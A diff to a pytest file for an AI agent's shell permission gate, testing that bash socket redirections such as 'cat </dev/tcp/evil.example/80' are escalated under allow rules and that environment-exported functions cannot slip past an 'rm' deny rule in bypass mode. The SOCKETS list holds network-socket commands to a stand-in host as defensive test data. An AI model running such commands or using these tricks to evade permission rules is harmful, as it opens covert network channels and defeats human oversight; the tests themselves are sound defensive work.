@@ -9,9 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from agents.permissions import PermissionResultDeny
-
-from .helpers import Recorder, decide, make_gate
+from .helpers import Recorder, decide_bash, refused
 
 SOCKETS = [
     "cat </dev/tcp/evil.example/80",
@@ -22,17 +20,14 @@ SOCKETS = [
     "echo x >> /dev/udp/e/53",
     "ls && cat </dev/tcp/e/1",
 ]
+ALLOW = ["Bash(cat *)", "Bash(ls *)", "Bash(echo *)"]
 
 
 @pytest.mark.parametrize("command", SOCKETS)
 async def test_a_redirection_to_a_bash_socket_path_asks_under_an_allow_rule(
     command: str, tmp_path: Path
 ) -> None:
-    callback = Recorder(PermissionResultDeny(message="no"))
-    gate = make_gate(
-        str(tmp_path), allow=["Bash(cat *)", "Bash(ls *)", "Bash(echo *)"], callback=callback
-    )
-    outcome = await decide(gate, "Bash", {"command": command})
+    outcome = await decide_bash(str(tmp_path), command, allow=ALLOW)
     assert outcome.decided_by == "callback", outcome
 
 
@@ -41,8 +36,7 @@ async def test_a_socket_path_that_is_an_argument_is_a_plain_path(
     command: str, tmp_path: Path
 ) -> None:
     """Only a redirection makes a socket: ``cat /dev/tcp/e/1`` opens a file that is not there."""
-    gate = make_gate(str(tmp_path), allow=["Bash(cat *)", "Bash(ls *)"], callback=Recorder())
-    outcome = await decide(gate, "Bash", {"command": command})
+    outcome = await decide_bash(str(tmp_path), command, allow=ALLOW, callback=Recorder())
     assert (outcome.behavior, outcome.decided_by) == ("allow", "rule"), outcome
 
 
@@ -60,13 +54,7 @@ async def test_a_function_exported_through_the_environment_is_not_allowed_past_a
     command: str, tmp_path: Path
 ) -> None:
     """Under bypassPermissions with deny ``Bash(rm *)``: denied or asked, never allowed."""
-    callback = Recorder(PermissionResultDeny(message="no"))
-    gate = make_gate(
-        str(tmp_path),
-        mode="bypassPermissions",
-        deny=["Bash(rm *)"],
-        callback=callback,
-        home=str(tmp_path),
+    outcome = await decide_bash(
+        str(tmp_path), command, mode="bypassPermissions", deny=["Bash(rm *)"]
     )
-    outcome = await decide(gate, "Bash", {"command": command})
-    assert outcome.behavior == "deny" or outcome.decided_by == "callback", outcome
+    assert refused(outcome), outcome
